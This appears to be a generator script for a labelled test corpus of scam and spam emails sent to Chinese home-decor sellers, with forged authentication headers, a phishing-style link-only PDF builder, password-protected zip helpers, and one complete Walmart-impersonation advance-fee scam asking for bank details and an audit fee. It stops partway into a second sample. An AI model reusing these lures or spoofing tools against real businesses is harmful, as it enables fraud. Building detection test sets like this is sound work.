#!/usr/bin/env python3
"""Rebuild the raw .eml half of the holdout5 corpus and labels.json.

Run with an interpreter that has fpdf2:  /work/main/.venv/bin/python make.py
Every message has its own fixed seed (boundaries, DKIM blobs, queue ids, ZipCrypto
headers), so a rebuild gives the same bytes. The .txt half is hand-written and is
not touched by this script.
"""
from __future__ import annotations

import base64
import datetime as dt
import hashlib
import html as htmlmod
import io
import json
import random
import struct
import zipfile
import zlib
from email.charset import BASE64, QP, Charset
from email.generator import Generator
from email.header import Header
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import formataddr, format_datetime
from email import encoders
from pathlib import Path
from zoneinfo import ZoneInfo

from fpdf import FPDF

OUT = Path(__file__).resolve().parent
FONT_DIR = Path("/usr/share/fonts/truetype/dejavu")
PACIFIC = ZoneInfo("America/Los_Angeles")
CN = dt.timezone(dt.timedelta(hours=8))

# ----------------------------------------------------------------------------- time helpers


def tz(h: float) -> dt.timezone:
    return dt.timezone(dt.timedelta(minutes=int(h * 60)))


def at(y, mo, d, h, mi, s, off) -> dt.datetime:
    return dt.datetime(y, mo, d, h, mi, s, tzinfo=tz(off))


def D(t: dt.datetime, secs: float = 0, zone=None, label: bool = False) -> str:
    x = t + dt.timedelta(seconds=secs)
    if zone is not None:
        x = x.astimezone(zone)
    s = format_datetime(x)
    if label and zone is PACIFIC:
        s += " (PDT)" if x.dst() else " (PST)"
    if label and zone is dt.timezone.utc:
        s += " (UTC)"
    return s


# ----------------------------------------------------------------------------- random blobs


def b64r(rnd: random.Random, n: int) -> str:
    return base64.b64encode(bytes(rnd.getrandbits(8) for _ in range(n))).decode()


def hexr(rnd: random.Random, n: int, upper: bool = False) -> str:
    s = "".join(rnd.choice("0123456789abcdef") for _ in range(n))
    return s.upper() if upper else s


def alnum(rnd: random.Random, n: int, chars="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") -> str:
    return "".join(rnd.choice(chars) for _ in range(n))


def fold(s: str, width: int = 72, indent: str = "\t ") -> str:
    out = [s[i:i + width] for i in range(0, len(s), width)]
    return ("\n" + indent).join(out)


def dkim_header(rnd, d, s, t, hdrs, body_text, extra=""):
    bh = base64.b64encode(hashlib.sha256(body_text.encode("utf-8", "replace")).digest()).decode()
    b = b64r(rnd, 256)
    ts = int(t.timestamp())
    h = ":".join(hdrs)
    return (f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={ts};{extra}\n\t"
            f"h={h};\n\tbh={bh};\n\tb={fold(b)}"), b[:8]


# ----------------------------------------------------------------------------- MIME helpers


def _cs(charset: str, cte: str) -> Charset:
    cs = Charset(charset)
    if cte == "qp":
        cs.body_encoding = QP
    elif cte == "b64":
        cs.body_encoding = BASE64
    return cs


def text(body: str, charset="utf-8", cte="qp", flowed=False) -> MIMEText:
    p = MIMEText(body, "plain", _cs(charset, cte))
    if flowed:
        p.set_param("format", "flowed")
    return p


def html(body: str, charset="utf-8", cte="qp") -> MIMEText:
    return MIMEText(body, "html", _cs(charset, cte))


def para_html(body: str, style="gmail") -> str:
    paras = [htmlmod.escape(p).replace("\n", "<br>") for p in body.strip("\n").split("\n\n")]
    if style == "gmail":
        inner = "".join(f"<div>{p}</div><div><br></div>" for p in paras)
        return f'<div dir="ltr">{inner}</div>\n'
    if style == "outlook":
        inner = "".join(f'<p class="MsoNormal">{p}<o:p></o:p></p>\n<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
                        for p in paras)
        return ('<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>\n'
                '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
                '<style><!-- p.MsoNormal {margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;} --></style>\n'
                f'</head><body lang="EN-US"><div class="WordSection1">\n{inner}</div></body></html>\n')
    inner = "".join(f"<div>{p}</div><br>" for p in paras)
    return f"<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=UTF-8\"></head><body>{inner}</body></html>\n"


def alt(plain: MIMEText, rich: MIMEText, boundary: str) -> MIMEMultipart:
    m = MIMEMultipart("alternative", boundary=boundary)
    m.attach(plain)
    m.attach(rich)
    return m


def enc_word(s: str, charset="utf-8") -> str:
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        if charset.lower() in ("gb2312", "gbk", "gb18030"):
            raw = s.encode(charset)
            words, cur = [], b""
            for ch in s:
                b = ch.encode(charset)
                if len(base64.b64encode(cur + b)) > 45:
                    words.append(cur)
                    cur = b""
                cur += b
            words.append(cur)
            assert b"".join(words) == raw
            return "\n ".join(f"=?{charset}?B?{base64.b64encode(w).decode()}?=" for w in words)
        return Header(s, charset, header_name="Subject").encode(maxlinelen=76)


def addr_hdr(name: str, addr: str, charset="utf-8") -> str:
    if not name:
        return addr
    try:
        name.encode("ascii")
        return formataddr((name, addr))
    except UnicodeEncodeError:
        return f"{enc_word(name, charset)} <{addr}>"


def attachment(data: bytes, filename: str, ctype: str, style="gmail", rnd=None) -> MIMEBase:
    maintype, subtype = ctype.split("/", 1)
    p = MIMEBase(maintype, subtype)
    p.set_payload(data)
    encoders.encode_base64(p)
    name = enc_word(filename)
    p.set_param("name", name)
    p.add_header("Content-Disposition", "attachment", filename=name)
    if style == "gmail" and rnd is not None:
        fid = "f_" + alnum(rnd, 9, "abcdefghijklmnopqrstuvwxyz0123456789") + "0"
        p.add_header("Content-ID", f"<{fid}>")
        p.add_header("X-Attachment-Id", fid)
    if style == "outlook":
        p.replace_header("Content-Disposition", f'attachment; filename="{name}"; size={len(data)}')
        p.add_header("Content-Description", name)
    return p


def mixed(body, atts, boundary) -> MIMEMultipart:
    m = MIMEMultipart("mixed", boundary=boundary)
    m.attach(body)
    for a in atts:
        m.attach(a)
    return m


def bnd(rnd, style):
    if style == "gmail":
        return "000000000000" + hexr(rnd, 16)
    if style == "outlook":
        return "_000_" + alnum(rnd, 40, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") + "_"
    if style == "apple":
        return "Apple-Mail=_" + "-".join([hexr(rnd, 8, True), hexr(rnd, 4, True), hexr(rnd, 4, True),
                                          hexr(rnd, 4, True), hexr(rnd, 12, True)])
    if style == "phpmailer":
        return "b1=_" + alnum(rnd, 42)
    if style == "thunderbird":
        return "------------" + alnum(rnd, 24)
    if style == "foxmail":
        return "----=_NextPart_" + hexr(rnd, 8, True) + "_" + hexr(rnd, 8, True) + "_" + hexr(rnd, 8, True)
    return "=_" + alnum(rnd, 30)


# ----------------------------------------------------------------------------- attachment builders


def pdf_new(creator="Microsoft Word", producer=None, unicode=False, title=None):
    p = FPDF(format="A4")
    p.set_creation_date(dt.datetime(2026, 1, 5, 9, 0, tzinfo=dt.timezone.utc))
    p.set_creator(creator)
    if producer:
        p.set_producer(producer)
    if title:
        p.set_title(title)
    p.set_auto_page_break(True, 15)
    if unicode:
        p.add_font("DejaVu", "", str(FONT_DIR / "DejaVuSans.ttf"))
        p.add_font("DejaVu", "B", str(FONT_DIR / "DejaVuSans-Bold.ttf"))
    p.add_page()
    return p


def pdf_doc(title, paras, table=None, widths=None, unicode=False, creator="Microsoft Word",
            producer=None, small=None, header=None) -> bytes:
    p = pdf_new(creator, producer, unicode, title)
    fam = "DejaVu" if unicode else "Helvetica"
    if header:
        p.set_font(fam, "B", 9)
        for line in header:
            p.cell(0, 4.5, line, new_x="LMARGIN", new_y="NEXT")
        p.ln(4)
    p.set_font(fam, "B", 13)
    p.multi_cell(0, 7, title, new_x="LMARGIN", new_y="NEXT")
    p.ln(2)
    p.set_font(fam, "", 9.5)
    for para in paras:
        p.multi_cell(0, 5, para, new_x="LMARGIN", new_y="NEXT")
        p.ln(2)
    if table:
        widths = widths or [p.epw / len(table[0])] * len(table[0])
        for i, row in enumerate(table):
            p.set_font(fam, "B" if i == 0 else "", 8)
            for w, cell in zip(widths, row):
                p.cell(w, 6, str(cell), border=1)
            p.ln(6)
        p.ln(3)
    if small:
        p.set_font(fam, "", 6.5)
        p.multi_cell(0, 3, small, new_x="LMARGIN", new_y="NEXT")
    return bytes(p.output())


def pdf_link_only(url: str, label: str, creator="Adobe Acrobat Pro (64-bit) 24.1.20272") -> bytes:
    """A page whose only content is one clickable box pointing at a log-in page."""
    p = pdf_new(creator=creator, producer="Adobe PDF Library 24.1.173")
    p.set_y(110)
    p.set_fill_color(0, 99, 177)
    p.set_text_color(255, 255, 255)
    p.set_font("Helvetica", "B", 14)
    p.set_x((p.w - 110) / 2)
    p.cell(110, 16, label, fill=True, align="C", link=url)
    return bytes(p.output())


def _col(i: int) -> str:
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def xlsx(rows: list[list], sheet="Sheet1", creator="") -> bytes:
    """A minimal but valid SpreadsheetML workbook with inline strings."""
    def cell(ref, v):
        if isinstance(v, (int, float)):
            return f'<c r="{ref}"><v>{v}</v></c>'
        return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{htmlmod.escape(str(v))}</t></is></c>'
    rows_xml = "".join(
        f'<row r="{r + 1}">' + "".join(cell(f"{_col(c)}{r + 1}", v) for c, v in enumerate(row) if v != "") + "</row>"
        for r, row in enumerate(rows))
    files = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="{htmlmod.escape(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows_xml}</sheetData></worksheet>',
        "docProps/core.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>{htmlmod.escape(creator)}</dc:creator><cp:lastModifiedBy>{htmlmod.escape(creator)}</cp:lastModifiedBy><dcterms:created xsi:type="dcterms:W3CDTF">2026-01-05T09:00:00Z</dcterms:created></cp:coreProperties>',
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in files.items():
            zi = zipfile.ZipInfo(name, date_time=(2026, 1, 5, 9, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, content)
    return buf.getvalue()


def zip_plain(members: list[tuple[str, bytes]], when=(2026, 4, 1, 10, 0, 0)) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=when)
            zi.compress_type = zipfile.ZIP_DEFLATED
            if any(ord(ch) > 127 for ch in name):
                zi.flag_bits |= 0x800
            z.writestr(zi, data)
    return buf.getvalue()


def _crc_byte(crc: int, b: int) -> int:
    return zlib.crc32(bytes([b]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


def zip_crypto(name: str, data: bytes, password: str, rnd: random.Random, when=(2026, 4, 27, 18, 2, 0)) -> bytes:
    """One stored member encrypted with traditional PKWARE ZipCrypto (deterministic header)."""
    k = [0x12345678, 0x23456789, 0x34567890]

    def upd(c):
        k[0] = _crc_byte(k[0], c)
        k[1] = ((k[1] + (k[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k[2] = _crc_byte(k[2], (k[1] >> 24) & 0xFF)

    def kb():
        t = (k[2] | 2) & 0xFFFF
        return ((t * (t ^ 1)) >> 8) & 0xFF

    for ch in password.encode():
        upd(ch)
    crc = zlib.crc32(data) & 0xFFFFFFFF
    head = bytes(rnd.getrandbits(8) for _ in range(11)) + bytes([crc >> 24])
    enc = bytearray()
    for c in head + data:
        e = c ^ kb()
        upd(c)
        enc.append(e)
    y, mo, d, h, mi, s = when
    dtime = (h << 11) | (mi << 5) | (s // 2)
    ddate = ((y - 1980) << 9) | (mo << 5) | d
    fn = name.encode("utf-8")
    flags = 0x1 | (0x800 if any(ord(ch) > 127 for ch in name) else 0)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, dtime, ddate, crc, len(enc), len(data), len(fn), 0) + fn
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flags, 0, dtime, ddate, crc, len(enc),
                          len(data), len(fn), 0, 0, 0, 0, 0o100644 << 16, 0) + fn
    body = local + bytes(enc)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
    return body + central + eocd


def fake_pe(note: str) -> bytes:
    """A few harmless bytes that merely start like a Windows executable (no code)."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + \
        f"[holdout5 placeholder - not a program] {note}\n".encode()


# ----------------------------------------------------------------------------- recipient side

SELLER = {
    "exmail": "sales@nbeverbright.com",
    "aliyun": "sales@everbright-decor.cn",
    "own": "info@ningbo-homedecor.cn",
}


def spf_text(res, server, env, ip):
    dom = env.split("@")[-1]
    return {
        "pass": f"{server}: domain of {env} designates {ip} as permitted sender",
        "softfail": f"{server}: domain of transitioning {env} does not designate {ip} as permitted sender",
        "fail": f"{server}: domain of {env} does not designate {ip} as permitted sender",
        "none": f"{server}: domain of {env} does not designate permitted sender hosts",
        "neutral": f"{server}: {ip} is neither permitted nor denied by domain of {dom}",
    }[res]


def auth_results(server, m, bsig):
    a = m["auth"]
    env = m["envfrom"]
    fdom = m["from_"][1].split("@")[-1]
    parts = []
    if a["dkim"] == "none":
        parts.append("dkim=none (message not signed)")
    else:
        d, s = m["dkim"][0], m["dkim"][1]
        note = "(2048-bit key)" if a["dkim"] == "pass" else "(2048-bit key; signature did not verify)"
        parts.append(f"dkim={a['dkim']} {note} header.d={d} header.i=@{d} header.s={s} header.b={bsig}")
    parts.append(f"spf={a['spf']} ({spf_text(a['spf'], server, env, m['client']['ip'])}) smtp.mailfrom={env.split('@')[-1]}")
    dm = a["dmarc"]
    if dm == "none" and not a.get("dmarc_policy"):
        parts.append(f"dmarc=none header.from={fdom}")
    else:
        parts.append(f"dmarc={dm} ({a.get('dmarc_policy', 'p=NONE sp=NONE dis=NONE')}) header.from={fdom}")
    return server + ";\n\t" + ";\n\t".join(parts)


def recipient_block(m, rnd, bsig):
    kind = m["rcpt"]
    rcpt = m.get("envelope_to", SELLER[kind])
    c = m["client"]
    t = m["t"]
    lag = m.get("lag", rnd.randint(2, 9))
    rdns = c.get("rdns") or "unknown"
    out = [("Return-Path", f"<{m['envfrom']}>")]
    if kind == "own":
        qid = "4" + alnum(rnd, 11, "bcdfghjklmnpqrstvwxzBCDFGHJKLMNPQRSTVWXZ0123456789")
        tls = "" if c.get("notls") else "\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)"
        out += [
            ("X-Original-To", rcpt),
            ("Delivered-To", rcpt),
            ("Received", f"from mx.ningbo-homedecor.cn ([127.0.0.1])\n\tby localhost (mx.ningbo-homedecor.cn [127.0.0.1]) (amavis, port 10024)\n\twith ESMTP id {alnum(rnd, 12)} for <{rcpt}>;\n\t{D(t, lag + 1, CN)}"),
            ("Authentication-Results", auth_results("mx.ningbo-homedecor.cn", m, bsig)),
            ("Received-SPF", f"{m['auth']['spf'].capitalize()} (mailfrom) identity=mailfrom; client-ip={c['ip']}; helo={c['helo']}; envelope-from={m['envfrom']}; receiver={rcpt}"),
            ("Received", f"from {c['helo']} ({rdns} [{c['ip']}]){tls}\n\tby mx.ningbo-homedecor.cn (Postfix) with {'ESMTP' if c.get('notls') else 'ESMTPS'} id {qid}\n\tfor <{rcpt}>; {D(t, lag, CN)}"),
        ]
    elif kind == "exmail":
        n, k = rnd.randint(1, 14), rnd.randint(0, 1)
        srv = f"newxmmxszc{n}-{k}.qq.com"
        out += [
            ("X-QQ-mid", f"xmsezc{rnd.randint(10, 60)}-{k}t{int(t.timestamp()) + lag}t{alnum(rnd, 3, 'abcdefghijklmnopqrstuvwxyz0123456789')}"),
            ("Authentication-Results", auth_results(srv, m, bsig)),
            ("Received", f"from {c['helo']} ({rdns} [{c['ip']}])\n\tby {srv} (NewMX) with SMTP id {hexr(rnd, 8, True)}\n\tfor <{rcpt}>; {D(t, lag, CN)}"),
        ]
    else:
        srv = "mx1.qiye.aliyun.com"
        out += [
            ("Authentication-Results", auth_results(srv, m, bsig)),
            ("Received", f"from {c['helo']}({rdns}[{c['ip']}])\n\tby {srv}(MX-AliyunQiye) with SMTP id {alnum(rnd, 14)}\n\tfor <{rcpt}>; {D(t, lag, CN)}"),
        ]
    return out


# ----------------------------------------------------------------------------- sender-side infrastructure


def gmail_side(rnd, t, workspace=False):
    octet = rnd.randint(41, 230)
    host = f"mail-{rnd.choice(['pj1', 'pl1', 'ed1', 'ej1', 'wr1', 'lf1', 'oi1', 'qt1', 'wm1', 'yb1'])}-f{octet}.google.com"
    ip = f"209.85.{rnd.choice([128, 160, 166, 167, 208, 210, 214, 215, 216, 218, 219, 221, 222])}.{octet}"
    gid = f"{hexr(rnd, 13)}-{hexr(rnd, 3)}a{rnd.randint(100, 999)}{hexr(rnd, 4)}.{rnd.randint(1, 9)}"
    hops = [f"by {host} with SMTP id {gid}\n        for <RCPT>; {D(t, 1, PACIFIC, True)}"]
    pre = [
        ("X-Google-Smtp-Source", "AGHT+I" + b64r(rnd, 66)),
        ("X-Received", f"by 2002:a{rnd.randint(10, 99)}:{hexr(rnd, 4)}:{hexr(rnd, 4)}:b0:{hexr(rnd, 3)}:{hexr(rnd, 4)}:{hexr(rnd, 4)} with SMTP id\n {alnum(rnd, 4, 'abcdefghijklmnopqrstuvwxyz0123456789')}-20020a{hexr(rnd, 10)}b00{hexr(rnd, 16)}mr{rnd.randint(1000000, 9999999)}{alnum(rnd, 3, 'abcdefghijklmnopqrstuvwxyz')}.{rnd.randint(1, 40)}.{int(t.timestamp())}{rnd.randint(100, 999)};\n        {D(t, 1, PACIFIC, True)}"),
        ("X-Gm-Message-State", "AOJu0Y" + b64r(rnd, 48)),
    ]
    if not workspace:
        pre.insert(0, ("X-Google-DKIM-Signature", "v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t=%d; x=%d;\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n        bh=%s;\n        b=%s" % (int(t.timestamp()), int(t.timestamp()) + 604800, b64r(rnd, 32), fold(b64r(rnd, 256), 70, "         "))))
    client = {"helo": host, "rdns": host, "ip": ip}
    msgid = f"<CA{alnum(rnd, 1, 'BEFHJKLMNOP')}{alnum(rnd, 40, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+_-')}@mail.gmail.com>"
    return dict(client=client, hops=hops, pre=pre, msgid=msgid)


def m365_side(rnd, t, region="eur", consumer=False):
    reg = {"eur": ("EUR05", "AM6", "eurprd05", "AM9PR05MB", "40.107.22"),
           "eur3": ("EUR03", "DB5", "eurprd03", "DB9PR03MB", "40.107.20"),
           "nam": ("NAM12", "BN8", "namprd12", "BN8PR12MB", "40.107.237"),
           "eur2": ("EUR02", "VI1", "eurprd02", "VI1PR02MB", "40.107.8")}[region]
    mbx = f"{reg[3]}{rnd.randint(1000, 9999)}"
    obe = f"{reg[0]}-{reg[1]}-obe.outbound.protection.outlook.com"
    if consumer:
        out = f"mail-{reg[1].lower()}{reg[0].lower()[:3]}{reg[0][-2:]}olkn{rnd.randint(2010, 2110)}.outbound.protection.outlook.com"
        ip = f"40.92.{rnd.randint(58, 99)}.{rnd.randint(10, 250)}"
    else:
        out = f"mail-{reg[1].lower()}{reg[0].lower()[:3]}{reg[0][-2:]}on{rnd.randint(2040, 2130)}.outbound.protection.outlook.com"
        ip = f"{reg[4]}.{rnd.randint(10, 250)}"
    v6 = f"2603:10a6:{hexr(rnd, 3)}:{hexr(rnd, 2)}::{rnd.randint(5, 19)}"
    hops = [
        f"from {mbx}.{reg[2]}.prod.outlook.com\n ([fe80::{hexr(rnd, 4)}:{hexr(rnd, 4)}:{hexr(rnd, 4)}:{hexr(rnd, 4)}]) by {mbx}.{reg[2]}.prod.outlook.com\n ([fe80::{hexr(rnd, 4)}:{hexr(rnd, 4)}:{hexr(rnd, 4)}:{hexr(rnd, 4)}%5]) with mapi id 15.20.8989.{rnd.randint(10, 40):03d}; {D(t, 0, dt.timezone.utc)}",
        f"from {mbx}.{reg[2]}.prod.outlook.com ({v6}) by\n {mbx}.{reg[2]}.prod.outlook.com ({v6}) with Microsoft SMTP Server\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8989.{rnd.randint(10, 40)}; {D(t, 1, dt.timezone.utc)}",
    ]
    hops.reverse()
    client = {"helo": obe if not consumer else out, "rdns": out, "ip": ip}
    msgid = f"<{mbx}{hexr(rnd, 16, True)}{hexr(rnd, 14, True)}@{mbx}.{reg[2]}.prod.outlook.com>"
    pre = [
        ("ARC-Seal", f"i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold(b64r(rnd, 256), 72, ' ')}"),
        ("X-MS-Exchange-Organization-MessageDirectionality", "Originating") if not consumer else ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", mbx),
    ]
    return dict(client=client, hops=hops, pre=pre, msgid=msgid, mbx=mbx, region=reg)


def thread_index(rnd):
    return base64.b64encode(bytes(rnd.getrandbits(8) for _ in range(22))).decode()


# ----------------------------------------------------------------------------- assembly

ITEMS = []


def mail(fn):
    ITEMS.append(fn)
    return fn


def render(m) -> bytes:
    rnd = random.Random(m["seed"] * 7919)
    root = m["body"]
    for part in root.walk():
        while "MIME-Version" in part:
            del part["MIME-Version"]
    buf = io.StringIO()
    Generator(buf, mangle_from_=False, maxheaderlen=78).flatten(root)
    raw = buf.getvalue()
    content_headers, body = raw.split("\n\n", 1)
    rcpt_addr = SELLER[m["rcpt"]]
    hdr = []
    fr = m["from_"]
    hdr.append(("From", addr_hdr(fr[0], fr[1], m.get("hcharset", "utf-8"))))
    if m.get("reply_to"):
        rt = m["reply_to"]
        hdr.append(("Reply-To", addr_hdr(rt[0], rt[1], m.get("hcharset", "utf-8"))))
    hdr.append(("To", m.get("to") or rcpt_addr))
    if m.get("cc"):
        hdr.append(("Cc", m["cc"]))
    hdr.append(("Subject", enc_word(m["subject"], m.get("hcharset", "utf-8"))))
    hdr.append(("Date", m.get("date_hdr") or D(m["t"])))
    hdr.append(("Message-ID", m["msgid"]))
    for k, v in m.get("thread", []):
        hdr.append((k, v))
    for k, v in m.get("mailer", []):
        hdr.append((k, v))
    if not any(k.lower() == "mime-version" for k, _ in hdr):
        hdr.append(("MIME-Version", "1.0"))
    bsig = ""
    dk = []
    if m.get("dkim"):
        d, s = m["dkim"][:2]
        hlist = m["dkim"][2] if len(m["dkim"]) > 2 else ["from", "to", "subject", "date", "message-id", "content-type", "mime-version"]
        val, bsig = dkim_header(rnd, d, s, m["t"], hlist, body)
        dk = [("DKIM-Signature", val)]
    top = recipient_block(m, rnd, bsig)
    hops = [("Received", h.replace("RCPT", rcpt_addr)) for h in m.get("hops", [])]
    lines = top + hops + m.get("pre", []) + dk + hdr
    text_ = "".join(f"{k}: {v}\n" for k, v in lines) + content_headers + "\n\n" + body
    if not text_.endswith("\n"):
        text_ += "\n"
    return text_.encode("utf-8")


def label(**kw):
    return kw


def vps_side(rnd, t, helo, ip, rdns=None, origin=None, server_tz=0, webmail=None):
    """Mail leaving a rented server: either a PHP script (userid 33) or an SMTP-AUTH/webmail client."""
    qid = alnum(rnd, 11, "BCDFGHJKLMNPQRSTVWXZ0123456789")
    if origin and webmail:
        hops = [f"from {helo} (localhost [127.0.0.1])\n\tby {helo} (Postfix) with ESMTPSA id {qid}\n\tfor <RCPT>; {D(t, 1, tz(server_tz))}",
                f"from {origin} ([{origin}])\n\tby {helo} ({webmail})\n\twith HTTP (HTTP/1.1 POST); {D(t, 0, tz(server_tz))}"]
    elif origin:
        hops = [f"from [{origin}] (unknown [{origin}])\n\tby {helo} (Postfix) with ESMTPSA id {qid}\n\tfor <RCPT>; {D(t, 1, tz(server_tz))}"]
    else:
        hops = [f"by {helo} (Postfix, from userid 33)\n\tid {qid}; {D(t, 0, tz(server_tz))}"]
    return dict(client={"helo": helo, "rdns": rdns, "ip": ip}, hops=hops)


# ============================================================================= SCAMS / SPAM (.eml)


@mail
def walmart():
    rnd = random.Random(101)
    t = at(2026, 4, 14, 13, 13, 2, 0)
    v = vps_side(rnd, t, "ubuntu-s-1vcpu-1gb-nyc3-01", "159.203.87.142")
    body_txt = """Dear Supplier,

Greetings from Walmart Global Sourcing.

Our Home category team is reviewing new factories for the 2026 Better Homes & Gardens and Mainstays decor assortments, and your company was shortlisted after a review of your online product listings. We would like to invite you to quote on the items below:

1. Ceramic table vase, reactive glaze, H 20 cm - 24,000 units
2. Ceramic bud vase set of 3, matte white - 18,000 sets
3. Soy blend jar candle 10 oz, 3 fragrances - 36,000 units

Quotation basis: FOB China port, unit price, carton size, lead time.
Payment terms: Net 60 days from receipt of goods at our DC, as per Walmart standard supplier agreement.

Before a purchase order can be issued your company must be activated in our Supplier Center. Please complete the attached Vendor Registration Form and return it with your business license and bank details to the procurement coordinator handling this RFQ, Mr. Brian Keller (b.keller@walmart-sourcingus.com). Kindly do not reply to this automated mailbox.

Deadline for submission: April 24, 2026.

Regards,

Brian Keller
Senior Sourcing Manager - Home Decor
Walmart Global Sourcing
702 S.W. 8th Street, Bentonville, AR 72716, USA
Direct: +1 (479) 250-3318
"""
    pdf = pdf_doc("WALMART GLOBAL SOURCING - NEW VENDOR REGISTRATION FORM", [
        "Supplier Center activation (RFQ WMT-GS-26-0418). All fields are mandatory. Return the completed form to the "
        "procurement coordinator named in the RFQ, not to the Supplier Center mailbox.",
        "Section A - Company: legal name, business license number, year established, number of employees, annual export turnover.",
        "Section B - Banking: beneficiary name, bank name, SWIFT, account number, bank address. A copy of a recent bank statement is required.",
        "Section C - Compliance: a one-time supplier onboarding & factory audit fee of USD 480.00 is payable to the Walmart-approved "
        "audit partner within 5 working days of receiving the audit invoice. Vendors who do not settle the fee will be removed from the RFQ.",
        "Section D - Declaration: signature, name, title, company chop.",
    ], creator="Microsoft Word", producer="Microsoft: Print To PDF")
    b = bnd(rnd, "phpmailer")
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "plain")), bnd(rnd, "phpmailer")),
                 [attachment(pdf, "Vendor_Registration_Form_WMT-GS-26-0418.pdf", "application/pdf", "php")], b)
    return dict(seed=101, rcpt="exmail", t=t,
                from_=("Walmart Global Sourcing", "sourcing@walmart.com"),
                reply_to=("Brian Keller", "b.keller@walmart-sourcingus.com"),
                subject="Supplier Onboarding - RFQ WMT-GS-26-0418 Home Decor (Ceramic Vases / Candles)",
                msgid=f"<{alnum(rnd, 40)}@ubuntu-s-1vcpu-1gb-nyc3-01>",
                mailer=[("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"), ("MIME-Version", "1.0")],
                envfrom="root@ubuntu-s-1vcpu-1gb-nyc3-01.localdomain", **v,
                auth=dict(spf="none", dkim="none", dmarc="fail", dmarc_policy="p=REJECT sp=REJECT dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:brand_impersonation", language="en", email="sourcing@walmart.com",
                            company="Walmart Global Sourcing", country="US", website="walmart.com",
                            why="walmart.com in From but sent by a DigitalOcean droplet (no SPF/DKIM, DMARC fail); Reply-To on lookalike walmart-sourcingus.com; asks bank details and an audit fee; net 60 terms."))


@mail
def ikea():
    rnd = random.Random(102)
    t = at(2026, 3, 3, 11, 42, 17, 1)
    v = vps_side(rnd, t, "vps-3b1f9a27.vps.ovh.net", "51.210.156.77", "vps-3b1f9a27.vps.ovh.net",
